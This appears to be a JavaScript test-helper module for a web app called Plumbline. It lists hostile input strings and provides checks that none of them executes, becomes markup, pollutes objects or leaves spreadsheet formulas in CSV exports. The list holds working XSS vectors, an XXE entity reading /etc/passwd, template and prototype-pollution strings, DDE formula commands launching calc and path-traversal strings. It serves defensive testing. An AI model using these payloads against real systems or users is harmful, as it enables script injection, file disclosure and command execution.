// Hostile strings, and what shows whether one of them was more than text. Each script in them sets window.__executed.

import assert from "node:assert/strict";

const RUN = "window.__executed=1";

/** Leaves no place where a line could break. */
export const WIDE = "W".repeat(1000);

/** By name: what people and files could put into any field. */
export const HOSTILE = {
  script: `<script>${RUN}</script>`,
  "closed script": `</script><script>${RUN}</script>`,
  handler: `"><img src=x onerror="${RUN}">`,
  "handler, single quotes": `'><input autofocus onfocus='${RUN}'>`,
  "handler, attribute only": `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  "svg onload": `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  "svg that closes text": `</text></title></desc></svg><svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  "foreign object": `</text><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="<script>parent.__executed=1</script>"/></foreignObject>`,
  link: `javascript:${RUN}`,
  "link in markup": `<a href="javascript:${RUN}">x</a><base href="//example.invalid/"><meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  "closed style": `</style><style>*{display:none}</style><script>${RUN}</script>`,
  "closed title and text area": `</title></textarea></noscript></select></template><img src=x onerror=${RUN}>`,
  "closed CDATA": `]]><script>${RUN}</script><![CDATA[`,
  "closed comment": `--><script>${RUN}</script><!--`,
  "broken markup": `<img """><script>${RUN}</script>">`,
  "mutating markup": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  entity: `&lt;script&gt;${RUN}&lt;/script&gt; &amp;amp; &#60;`,
  "external entity": `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`,
  "template braces": "{{constructor.constructor('" + RUN + "')()}} ${" + RUN + "} #{" + RUN + "} <%= " + RUN + " %>",
  "JSON that goes on": `","edit":{"set_title":{"title":"x"}},"__proto__":{"polluted":true},"a":"`,
  "formula, command": "=cmd|' /C calc'!A0",
  "formula, link": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
  "formula, plus": "+1+cmd|' /C calc'!A0",
  "formula, minus": "-1+cmd|' /C calc'!A0",
  "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
  "formula, tab": "\t=1+1",
  "formula, carriage return": "\r=1+1",
  "formula, line feed": "\n=1+1",
  "formula, full width": "＝1+1",
  "formula, after a space": " =1+1",
  "formula, after an apostrophe": "'=1+1",
  "formula, after a separator": 'a;=1+1;b\t=2,=3",=4',
  "formula, in a second line": "a\n=1+1\r\n-2",
  "bidirectional override": "abc\u202Efdp.exe\u202C \u2066isolate\u2069 \u2067open isolate \u202Bembedded",
  "bidirectional marks": "\u200Fright\u200Eleft\u061C",
  arabic: "تقييم العمليات ١٢٣ (abc) ٪",
  hebrew: "הערכת תהליכים 123 (abc), \"שלום\"",
  "emoji with joiners": "👩🏽‍🚒👨‍👩‍👧‍👦🏳️‍🌈 1️⃣ 🇩🇪",
  "combining marks": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘ ñ n\u0303",
  "zero width": "a\u200Bb\uFEFFc\u2060d\u00ADe",
  "separators of lines": "a\u2028b\u2029c\u0085d",
  "control characters": "a\u0001\u0007\u0008\u001B[31mred\u001B[0m\u007F\u009Fb",
  nul: "a\u0000b",
  "lone surrogates": "a\uD800b\uDFFFc",
  noncharacters: "a\uFFFE\uFFFF\uFDD0\u{10FFFF}b",
  "path tricks": "../../../../etc/passwd",
  "path tricks, Windows": "..\\..\\CON.txt:stream|?*<>",
  "encoded path": "%2e%2e%2f%00#/../?x=1&y",
  prototype: "__proto__",
  constructor: "constructor",
  "long, no space": WIDE.repeat(10),
  "long, with spaces": "Wide words ".repeat(909).trim(),
};

/** What of a string reaches the program: a page has no lone surrogates to give, and its one-line fields no line ends. */
export const asText = (text) => text.toWellFormed();
export const asLine = (text) => trimmed(asText(text.replace(/[\r\n]/g, "")));
export const asLines = (text) => asText(text.replace(/\r\n?/g, "\n"));

/** Without white space at its ends, as Unicode has it, which is not quite what `trim` takes away. */
export const trimmed = (text) => text.replace(/^\p{White_Space}+|\p{White_Space}+$/gu, "");

/** Saying the same twice in a row is saying it once. */
export const once = (texts) => texts.filter((text, at) => text !== texts[at - 1]);

/** Watches a page from before its first script on: the console tells of anything that ran. */
export function watchForScripts() {
  Object.defineProperty(window, "__executed", {
    get: () => undefined,
    set: () => console.error("A hostile string was executed"),
  });
}

/** A copy of a JSON value with another text in place of each one that `wanted` takes. */
export function refill(value, wanted, text, place = "") {
  if (typeof value === "string") return wanted(place, value) ? text(place, value) : value;
  if (Array.isArray(value)) return value.map((one, at) => refill(one, wanted, text, `${place}[${at}]`));
  if (value === null || typeof value !== "object") return value;
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, refill(one, wanted, text, place ? `${place}.${name}` : name)]));
}

/** Nothing in the page came out of a text: no element, handler, address or style that Plumbline does not make. */
export async function assertHarmless(page, where) {
  const found = await page.evaluate(() => {
    const strange = [...document.querySelectorAll("body script, iframe, img, object, embed, base, meta[http-equiv=refresh], foreignObject, animate, math, body style, [srcdoc], [style]:not([style=\"\"])")];
    const every = [...document.querySelectorAll("*")];
    const handlers = every.filter((one) => one.getAttributeNames().some((name) => name.startsWith("on")));
    const addresses = every.filter((one) => /^\s*(javascript|data|vbscript):/i.test(one.getAttribute("href") ?? one.getAttribute("src") ?? ""));
    return [...strange, ...handlers, ...addresses].map((one) => one.outerHTML.slice(0, 200));
  });
  assert.deepEqual(found, [], `text became markup ${where}`);
  assert.equal(await page.evaluate(() => ({}).polluted), undefined, `an object was changed ${where}`);
}

/** Nothing sticks out: neither at the side of the page nor a text at the side of its box. Tables scroll in a box of their own. */
export async function assertNarrow(page, where) {
  const found = await page.evaluate(() => {
    const scrolls = (one) => one && (getComputedStyle(one).overflowX !== "visible" || scrolls(one.parentElement));
    const told = (one, wide, room) => `${one.localName}.${one.className} ${Math.round(wide)} instead of ${Math.round(room)}: ${one.textContent.slice(0, 30)}`;
    const out = [];
    const root = document.documentElement;
    if (root.scrollWidth > root.clientWidth) out.push(told(root, root.scrollWidth, root.clientWidth));
    const byDesign = 13; // the marked question of the sheet hangs out a little
    for (const one of document.body.querySelectorAll("*")) {
      const boxed = one.clientWidth > 1 && !one.closest("svg, select, dialog:not([open])");
      if (boxed && one.scrollWidth > one.clientWidth + byDesign && !scrolls(one)) out.push(told(one, one.scrollWidth, one.clientWidth));
    }
    return out.slice(0, 12);
  });
  assert.deepEqual(found, [], `something sticks out ${where}`);
}

/** Rows of a CSV text, by its quotes. */
export function rowsOf(text) {
  const rows = [];
  const cell = /(,|\r?\n|^)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g;
  for (const [, before, quoted, plain] of text.replace(/^\uFEFF/, "").replace(/\r?\n$/, "").matchAll(cell)) {
    if (before !== ",") rows.push([]);
    rows.at(-1).push(quoted?.replaceAll('""', '"') ?? plain);
  }
  return rows;
}

/** No cell starts as a formula, also not for a spreadsheet that takes semicolons or tabs for separators. */
export function assertNoFormula(csv, where) {
  const starts = /^[ \u00A0]*[=+\-@\t\r\n＝＋－＠]/;
  const isNumber = (cell) => /^-?\d+(\.\d+)?$/.test(cell);
  const cells = rowsOf(csv).flat().filter((cell) => starts.test(cell) && !isNumber(cell));
  assert.deepEqual(cells, [], `formulas in ${where}`);
  const pieces = csv.split(/[;\t\r\n]/).map((piece) => piece.replace(/^"+/, "")).filter((piece) => starts.test(piece));
  assert.deepEqual(pieces, [], `formulas in ${where}, where semicolons separate`);
}
